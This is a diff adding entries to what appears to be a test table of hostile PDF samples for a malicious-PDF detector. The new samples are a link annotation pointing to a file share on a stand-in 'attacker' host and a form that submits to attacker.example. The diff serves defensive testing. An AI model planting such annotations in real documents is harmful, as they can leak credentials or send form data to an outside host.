@@ -117,6 +117,22 @@ HOSTILE = {
         ),
         "/RichMedia",
     ),
+    "a link to another file": (
+        build_pdf(
+            b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
+            b"/A << /S /GoToR /F (\\\\attacker\\share\\x.pdf) /D [0 /Fit] >> >>",
+            page=b"/Annots [4 0 R]",
+        ),
+        "/GoToR",
+    ),
+    "a form that submits": (
+        build_pdf(
+            b"<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] "
+            b"/A << /S /SubmitForm /F (https://attacker.example/) >> >>",
+            page=b"/Annots [4 0 R]",
+        ),
+        "/SubmitForm",
+    ),
     "JavaScript with hex-escaped names": (
         build_pdf(
             b"<< /Names [(a) 5 0 R] >>",
